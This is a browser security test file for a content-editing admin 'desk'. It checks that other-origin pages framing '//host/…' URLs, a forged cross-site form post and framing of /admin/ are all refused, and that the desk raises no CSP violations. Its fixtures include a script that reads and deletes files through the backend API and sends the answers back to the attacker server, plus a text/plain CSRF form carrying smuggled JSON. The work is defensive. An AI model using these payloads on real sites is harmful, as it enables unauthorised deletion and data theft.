/**
 * Other sites against the editor's desk, in a real browser (issue 29, part 1): a page on another
 * local server frames `//host/…` URLs of the desk and, were its script served on the desk's
 * origin, would call the backend; a form on another localhost port posts to the backend. Both
 * are refused and nothing in content/ changes. And the desk itself still works under its CSP,
 * with no violation reported in the normal flow. The desk runs as `npm run dev` runs it: the desk
 * server in front of `wrangler dev` on a copy of the fixture site.
 */
import { access, readFile, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { launchChromium } from "../../scripts/browser/chromium.ts";
import { startDevServer, type DevServer } from "../../scripts/wrangler/dev-server.ts";
import { startDeskServer, type DeskServer } from "../../scripts/desk/server.ts";
import { fixtureProject, FIXTURE_SITE } from "../support/project.ts";

const VICTIM = "content/articles/member-congress-2026.md";

let root: string;
let worker: DevServer;
let desk: DeskServer;
let browser: Browser;
let attacker: Server;
let attackerPort: number;
/** What the attacker's page reported back (each backend answer it read). */
const reports: string[] = [];

/** The attacker's pages: what another local dev server (or a site by DNS) could serve. */
function attackerPage(path: string): string | undefined {
  const self = `http://127.0.0.1:${attackerPort}`;
  if (path === "/evil.html")
    // Served on the desk's origin (if the desk passed `//host/…` on), this reads and deletes.
    return `<!doctype html><script>
      const call = (action, params) => fetch("/admin/api/v1", { method: "POST", body: JSON.stringify({ action, params }) })
        .then((r) => r.text().then((t) => action + " " + r.status + " " + t.slice(0, 80)));
      (async () => {
        for (const line of [await call("entriesByFolder", {}), await call("deleteFiles", { paths: [${JSON.stringify(VICTIM)}] })])
          await fetch(${JSON.stringify(`${self}/report?`)} + encodeURIComponent(line), { mode: "no-cors" });
      })();
    </script>`;
  const frame = /^\/frame\.html\?(.+)$/.exec(path)?.[1];
  if (frame) return `<!doctype html><iframe src="${decodeURIComponent(frame)}"></iframe>`;
  if (path === "/form.html")
    // text/plain form encoding: name=value, so the body is the JSON of a deleteFiles call.
    return `<!doctype html><form method="post" enctype="text/plain" action="${desk.url}/admin/api/v1">
      <input type="hidden" name='{"action":"deleteFiles","params":{"paths":["${VICTIM}"]},"pad":"' value='"}'>
    </form><script>document.forms[0].submit()</script>`;
  return undefined;
}

beforeAll(async () => {
  root = await fixtureProject({ build: true });
  process.env.CONTENT_PREVIEW = "true";
  worker = await startDevServer(root, ["--var", "PREVIEW:true"]);
  desk = await startDeskServer({ root, upstream: worker.url });
  attacker = createServer((req, res) => {
    const url = req.url ?? "/";
    if (url.startsWith("/report?")) {
      reports.push(decodeURIComponent(url.slice("/report?".length)));
      return res.writeHead(204).end();
    }
    const page = attackerPage(url);
    res.writeHead(page ? 200 : 404, { "content-type": "text/html; charset=utf-8" });
    res.end(page ?? "");
  });
  await new Promise<void>((r) => attacker.listen(0, "127.0.0.1", r));
  attackerPort = (attacker.address() as { port: number }).port;
  browser = await launchChromium();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  attacker?.close();
  await desk?.close();
  await worker?.stop();
  await rm(root, { recursive: true, force: true });
});

beforeEach(() => {
  reports.length = 0;
});

const victimThere = () =>
  access(join(root, VICTIM)).then(
    () => true,
    () => false,
  );

describe("another site against the desk", () => {
  it.each([
    ["//host/…", (port: number) => `//127.0.0.1:${port}/evil.html`],
    ["/admin/preview//host/…", (port: number) => `/admin/preview//127.0.0.1:${port}/evil.html`],
  ])("frames a %s URL of the desk: a 400, its script never runs, nothing deleted", async (_, shape) => {
    const page = await browser.newPage();
    const framed = `${desk.url}${shape(attackerPort)}`;
    const answer = page.waitForResponse((r) => r.url() === framed);
    await page.goto(`http://localhost:${attackerPort}/frame.html?${encodeURIComponent(framed)}`);
    expect((await answer).status()).toBe(400);
    // Time for the framed script to call the backend and report, had it run.
    await page.waitForTimeout(2000);
    expect(reports).toEqual([]);
    expect(await victimThere()).toBe(true);
    await page.close();
  });

  it("posts a form from another localhost port to the backend: a 403, nothing deleted", async () => {
    const page = await browser.newPage();
    const answer = page.waitForResponse((r) => r.url() === `${desk.url}/admin/api/v1`);
    await page.goto(`http://localhost:${attackerPort}/form.html`);
    expect((await answer).status()).toBe(403);
    expect(await victimThere()).toBe(true);
    await page.close();
  });

  it("frames /admin/ itself: refused by frame-ancestors", async () => {
    const page = await browser.newPage();
    const violations: string[] = [];
    page.on("console", (m) => {
      if (/frame-ancestors/.test(m.text())) violations.push(m.text());
    });
    await page.goto(`http://localhost:${attackerPort}/frame.html?${encodeURIComponent(`${desk.url}/admin/`)}`);
    await expect.poll(() => violations.length, { timeout: 10_000 }).toBe(1);
    // The frame holds no desk: Chromium shows its own error page there instead.
    expect(await page.frames()[1]!.locator("script[src='/admin/desk.js']").count()).toBe(0);
    await page.close();
  });
});

describe("the desk under its own CSP", () => {
  /** A tab on the desk that records every CSP violation (the event, and Chromium's console line). */
  async function open(hash: string): Promise<{ page: Page; violations: string[] }> {
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 }, locale: "zh-CN" });
    const violations: string[] = [];
    page.on("console", (m) => {
      if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
    });
    await page.exposeFunction("reportViolation", (v: string) => violations.push(v));
    await page.addInitScript(
      `document.addEventListener("securitypolicyviolation", (e) => reportViolation(e.violatedDirective + " " + e.blockedURI))`,
    );
    await page.goto(`${desk.url}/admin/#${hash}`);
    return { page, violations };
  }

  it("lists, opens an article with its preview and the media library, with no CSP violation", async () => {
    const { page, violations } = await open("/collections/articles");
    const rows = page.locator('a[href*="/collections/articles/entries/"]');
    await expect.poll(() => rows.count(), { timeout: 30_000 }).toBeGreaterThanOrEqual(6);
    await page.getByText("协会召开第五届会员大会", { exact: false }).first().click();
    // The preview pane (a frame in Decap's own preview frame): the real page from the dev
    // server, framed on the desk's own origin.
    const heading = () =>
      page
        .frames()
        .find((f) => f.url().startsWith(`${desk.url}/admin/preview/articles/`))
        ?.locator("h1")
        .first()
        .textContent();
    await expect.poll(heading, { timeout: 30_000 }).toContain("协会召开第五届会员大会");
    // The media library shows the pictures in content/media/ (previews as data: or blob: URLs).
    await page
      .getByRole("button", { name: "选择其他图片" })
      .or(page.getByRole("button", { name: "选择图片" }))
      .first()
      .click();
    await expect
      .poll(() => page.locator('img[src^="data:"], img[src^="blob:"]').count(), { timeout: 20_000 })
      .toBeGreaterThan(0);
    // An upload, chosen for the cover: Decap reads it back from its blob: URL.
    await page.locator('input[type="file"]').setInputFiles({
      name: "csp-upload.png",
      mimeType: "image/png",
      buffer: await readFile(join(FIXTURE_SITE, "content/media/huiyi.png")),
    });
    await page.getByRole("button", { name: "选用已选中项目" }).click();
    // Held until the save (desk.js), and read back from its blob: URL for Decap's draft backup.
    await page.waitForTimeout(3000);
    expect(violations).toEqual([]);
    await page.close();
  }, 90_000);
});
